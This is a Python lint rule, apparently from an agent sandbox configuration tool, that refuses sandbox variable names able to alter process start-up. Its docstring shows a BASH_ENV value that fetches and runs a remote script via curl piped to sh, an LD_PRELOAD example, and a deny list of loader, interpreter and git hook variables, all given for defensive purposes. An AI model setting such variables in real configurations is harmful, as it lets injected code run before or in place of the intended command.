"""``denied-variable``: a ``sandbox.variables[].name`` that must not reach the agent's process:
one that is not an environment variable name (letters, digits and ``_``, not starting with a
digit), or one that changes how a process starts. Such a value runs code before, or instead of,
the agent's own command, so the control plane refuses the config and its runner refuses the
run::

    sandbox:
      variables:
        - name: BASH_ENV          # denied-variable: bash would run "$(...)" before the script
          value: "$(curl -s https://example.com/x | sh)"
        - name: LOG_LEVEL         # fine
          value: debug

Refused in any case (``path`` too); a name ending in ``*`` stands for every name it starts:

- shells: ``BASH_ENV``, ``ENV``, ``ZDOTDIR``, ``SHELLOPTS``, ``BASHOPTS``, ``PS0``-``PS4``,
  ``PROMPT_COMMAND``, ``IFS``, ``CDPATH``, ``SHELL``
- search paths and start-up files: ``PATH``, ``HOME``, ``XDG_CONFIG_HOME``
- the loader and C library: ``LD_*``, ``DYLD_*``, ``GCONV_PATH``, ``GLIBC_TUNABLES``
- interpreters: ``PYTHON*``, ``NODE_OPTIONS``, ``NODE_PATH``, ``NPM_CONFIG_*``, ``PERL5*``,
  ``PERLLIB``, ``RUBYOPT``, ``RUBYLIB``, ``JAVA_TOOL_OPTIONS``, ``_JAVA_OPTIONS``,
  ``JDK_JAVA_OPTIONS``, ``CLASSPATH``, ``LUA_INIT*``, ``LUA_PATH*``, ``LUA_CPATH*``
- commands other programs run: ``GIT_SSH``, ``GIT_SSH_COMMAND``, ``GIT_PROXY_COMMAND``,
  ``GIT_EXTERNAL_DIFF``, ``GIT_ASKPASS``, ``GIT_EDITOR``, ``GIT_SEQUENCE_EDITOR``,
  ``GIT_PAGER``, ``GIT_CONFIG*``, ``GIT_DIR``, ``GIT_COMMON_DIR``, ``GIT_EXEC_PATH``,
  ``GIT_TEMPLATE_DIR``, ``SSH_ASKPASS``, ``EDITOR``, ``VISUAL``, ``PAGER``, ``LESSOPEN``,
  ``LESSCLOSE``, ``OPENSSL_CONF``, ``OPENSSL_ENGINES``, ``OPENSSL_MODULES``

Other ``GIT_*`` names (``GIT_AUTHOR_NAME``, ``GIT_COMMITTER_EMAIL``) are fine. The list, with
the reason for each, is ``DENIED`` in ``agentsync.config.variables``.

Bad::

    sandbox:
      variables:
        - name: LD_PRELOAD
          value: /tmp/hook.so

Fixed::

    sandbox:
      variables:
        - name: LOG_LEVEL
          value: debug
"""

from __future__ import annotations

from collections.abc import Iterator

from agentsync.config.variables import denied, name_problem
from agentsync.lint.context import LintContext
from agentsync.lint.diagnostic import Finding
from agentsync.lint.rule import RuleMeta

META = RuleMeta(
    "denied-variable",
    "error",
    "Variable names must be valid and must not change how a process starts",
)


def check(ctx: LintContext) -> Iterator[Finding]:
    for path, name in ctx.entry_strings(("sandbox", "variables"), "name"):
        problem = name_problem(name)
        if problem is None:
            continue
        hint = "give the value another name: no config may set this one" if denied(name) else None
        yield ctx.finding(path, f"sandbox variable {problem}", hint)
